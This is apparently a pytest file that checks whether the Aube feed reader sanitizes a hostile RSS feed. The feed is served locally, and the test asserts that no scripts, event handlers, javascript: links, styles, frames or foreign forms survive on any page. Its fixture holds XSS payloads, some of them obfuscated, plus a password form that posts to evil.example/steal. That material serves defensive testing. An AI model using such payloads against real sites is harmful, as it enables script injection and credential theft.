"""Hostile feed content, fetched from a real server on 127.0.0.1 through the real ingest
path (fetch → parse → sanitize → store → stories → edition), never runs or restyles
anything on Aube's pages: no script but Aube's own, no event handler, no ``javascript:``
link, no inline style, no frame, no image."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import timedelta
from email.utils import format_datetime
from pathlib import Path

import lxml.html
import pytest
from pytest_httpserver import HTTPServer
from web.client import Browser, password_hash
from web.world import NOW

from aube.clock import fixed_clock
from aube.compose.edition import local_date
from aube.config import load_settings
from aube.enrich.factory import embedder_for
from aube.pipeline.editions import editions
from aube.pipeline.shared import fetch, process
from aube.signals import service
from aube.store import Store
from aube.web import create_app

WHEN = format_datetime(NOW - timedelta(hours=3))
HOSTILE_RSS = f"""<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0"><channel><title>Evil &lt;script&gt;alert(0)&lt;/script&gt; Times</title>
<link>https://evil.example/</link><description>x</description>
<item>
  <title>&lt;script&gt;alert('title')&lt;/script&gt;Rust compiler release &lt;img src=x onerror=alert(1)&gt;</title>
  <link>javascript:alert('link')</link>
  <guid>evil-1</guid><pubDate>{WHEN}</pubDate>
  <description><![CDATA[<p onclick="alert(2)" style="position:fixed;top:0;left:0;width:100%;height:100%">
    Rust compiler release news <a href="javascript:alert(3)">click</a>
    <a href="jav&#x09;ascript:alert(4)">tab trick</a>
    <img src="x" onerror="alert(5)"><svg onload="alert(6)"></svg>
    <style>body {{ display: none }}</style><script>alert(7)</script>
    <iframe src="https://evil.example/frame"></iframe>
    <div style="background:url(javascript:alert(8))">css trick</div>
    <form action="https://evil.example/steal"><input name="password"></form>
  </p>]]></description>
</item>
<item>
  <title>Rust compiler release: &amp;amp;lt;img src=x onerror=alert(9)&amp;amp;gt; &amp;amp;lt;/a&amp;amp;gt;"&gt; quoted</title>
  <link>https://evil.example/story?a="onmouseover="alert(10)</link>
  <guid>evil-2</guid><pubDate>{WHEN}</pubDate>
  <description>&lt;b onmouseover=alert(11)&gt;Rust compiler release again&lt;/b&gt;</description>
</item>
</channel></rss>"""


@pytest.fixture
def hostile_server() -> Iterator[HTTPServer]:
    server = HTTPServer(host="127.0.0.1", port=0)
    server.start()
    server.expect_request("/evil.xml").respond_with_data(
        HOSTILE_RSS, content_type="application/rss+xml"
    )
    yield server
    server.clear()
    server.stop()


def check_page(html: str) -> None:
    tree = lxml.html.fromstring(html)
    scripts = tree.xpath("//script")
    assert len(scripts) == 1 and scripts[0].get("src", "").startswith("/static/aube.js")
    assert not tree.xpath("//iframe|//img|//svg[not(@class='icon')]|//style|//object|//embed")
    assert not tree.xpath("//form[not(starts-with(@action, '/'))]")
    for element in tree.iter():
        if not isinstance(element.tag, str):
            continue
        for name, value in element.attrib.items():
            assert not name.lower().startswith("on"), f"<{element.tag} {name}={value!r}>"
            assert name.lower() != "style", f"<{element.tag} style={value!r}>"
            if name.lower() in ("href", "src", "action"):
                assert value.startswith(("/", "http://", "https://", "#", "data:,")), (
                    f"{name}={value!r}"
                )
                assert "javascript" not in value.lower().replace("\t", "")


def test_hostile_feed_html_is_harmless_on_every_page(
    hostile_server: HTTPServer, tmp_path: Path
) -> None:
    settings = load_settings(
        data_dir=tmp_path / "data",
        embed_backend="hashing",
        fetch_allow_networks=["127.0.0.0/8"],
        fetch_retries=0,
    )
    store = Store.open(settings)
    clock = fixed_clock(NOW)
    _source, _ = store.add_source(hostile_server.url_for("/evil.xml"), now=NOW, full_text="never")
    report = fetch(store, settings, clock=clock)
    assert report.new == 2, report.errors
    process(store, settings, clock=clock)
    user = store.add_user("ana", now=NOW, password_hash=password_hash())
    service.add_topics(store, embedder_for(settings), user, ["Rust compiler release"], now=NOW)
    editions(store, settings, clock=clock)
    edition = store.get_edition(user.id, local_date(user, NOW))
    assert edition is not None and edition.cards, "the hostile items made no card"

    b = Browser(create_app(settings, store=store, clock=clock))
    assert b.login("ana").url.path == "/"
    pages = ["/", "/saved", "/history", "/profile", "/settings/sources"]
    pages += [f"/cards/{c.id}" for c in edition.cards]
    for card in edition.cards:
        b.post(f"/cards/{card.id}/feedback", {"action": "save"})
    for path in pages:
        page = b.get(path)
        assert page.status_code == 200, path
        check_page(page.text)
    today = b.get("/").text
    # Feed text that spells markup is shown as the words it is, never as markup.
    assert any("<img src=x onerror=alert(9)>" in c.headline for c in edition.cards)
    assert "<img src=x onerror=alert(9)>" in lxml.html.fromstring(today).text_content()
    store.close()
